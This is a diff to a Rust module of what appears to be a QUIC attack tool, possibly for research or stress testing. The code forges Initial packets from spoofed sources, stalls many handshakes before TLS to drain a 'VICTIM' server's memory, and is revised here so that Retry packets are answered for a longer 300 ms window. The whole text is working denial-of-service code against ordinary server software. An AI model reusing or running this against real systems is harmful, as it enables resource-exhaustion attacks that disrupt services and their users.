@@ -1,13 +1,12 @@
 //! Little data in much memory, and as much data as there is credit for.
 
 use std::{
-    net::UdpSocket,
+    net::{SocketAddrV4, UdpSocket},
     thread,
     time::{Duration, Instant},
 };
 
 use anyhow::Result;
-use rand::RngExt;
 
 use super::{
     Prepared, VICTIM,
@@ -36,32 +35,47 @@ pub fn before_tls(handshakes: usize, size: Size, proves: bool, bytes: usize) -> 
             Some(_) => owned_source(number as u16),
             None => any_source(),
         };
-        stalled.push((from, Initials::begin(&rand::rng().random::<[u8; 8]>())?));
+        stalled.push((from, Initials::begin()?));
     }
     let chunks = (bytes / length / handshakes).min(CHUNKS);
     Ok(Box::new(move |run| {
         run.attacked.begun = handshakes as u64;
-        for chunk in 0..chunks as u64 {
+        // What begins a connection has to be small, and readable.
+        let mut frame = Vec::new();
+        frames::crypto(&mut frame, 1, &[0]);
+        let begin = |run: &mut Run<'_>, forger: &mut Forger, (from, initials): &mut Stalled| {
+            let datagram = initials.packet(&frame, DATAGRAM)?;
+            forger.send(*from, &datagram)?;
+            run.sent(1, datagram.len());
+            anyhow::Ok(())
+        };
+        for handshake in &mut stalled {
+            begin(run, &mut forger, handshake)?;
+        }
+        if let Some(ears) = &ears {
+            let start = Instant::now();
+            while start.elapsed() < RETRY {
+                let Some(proven) = next_retry(ears)? else {
+                    thread::sleep(RETRY / 100);
+                    continue;
+                };
+                let source = proven.source();
+                let asked = stalled
+                    .iter_mut()
+                    .find(|(_, initials)| initials.source() == source);
+                if let Some(handshake) = asked {
+                    handshake.1 = proven;
+                    begin(run, &mut forger, handshake)?;
+                }
+            }
+        }
+        for chunk in 1..chunks as u64 {
             let mut frame = Vec::new();
             frames::crypto(&mut frame, chunk + 1, &[0]);
             for (from, initials) in &mut stalled {
-                let datagram = if chunk == 0 {
-                    // What begins a connection has to be small, and readable.
-                    initials.packet(&frame, DATAGRAM)?
-                } else {
-                    initials.behind_another(&frame, length)?
-                };
+                let datagram = initials.behind_another(&frame, length)?;
                 forger.send(*from, &datagram)?;
                 run.sent(1, datagram.len());
-                if let Some(ears) = &ears
-                    && chunk == 0
-                    && let Some(proven) = prove(ears)?
-                {
-                    *initials = proven;
-                    let datagram = initials.packet(&frame, DATAGRAM)?;
-                    forger.send(*from, &datagram)?;
-                    run.sent(1, datagram.len());
-                }
             }
         }
         run.attacked.amplified = Some(forger.amplified(run.linger)?);
@@ -69,17 +83,15 @@ pub fn before_tls(handshakes: usize, size: Size, proves: bool, bytes: usize) -> 
     }))
 }
 
-/// What follows the Retry packet that comes next, if there is one.
-fn prove(ears: &UdpSocket) -> Result<Option<Initials>> {
+type Stalled = (SocketAddrV4, Initials);
+
+/// What follows the next Retry packet, if one has come.
+fn next_retry(ears: &UdpSocket) -> Result<Option<Initials>> {
     let mut buffer = vec![0; DATAGRAM];
-    let deadline = Instant::now() + RETRY;
-    while Instant::now() < deadline {
-        if let Ok(length) = ears.recv(&mut buffer)
-            && let Some(initials) = Initials::after(&buffer[..length])?
-        {
+    while let Ok(length) = ears.recv(&mut buffer) {
+        if let Some(initials) = Initials::after(&buffer[..length])? {
             return Ok(Some(initials));
         }
-        thread::sleep(RETRY / 20);
     }
     Ok(None)
 }
@@ -245,8 +257,8 @@ const FRAME: usize = 1 + 2 + 4 + 2;
 /// What a datagram with one byte takes of the victim's memory, and more.
 const SINGLE: usize = 400;
 
-/// How long a Retry packet may take.
-const RETRY: Duration = Duration::from_millis(2);
+/// How long Retry packets may take.
+const RETRY: Duration = Duration::from_millis(300);
 
 const LISTEN_EVERY: usize = 64;
 
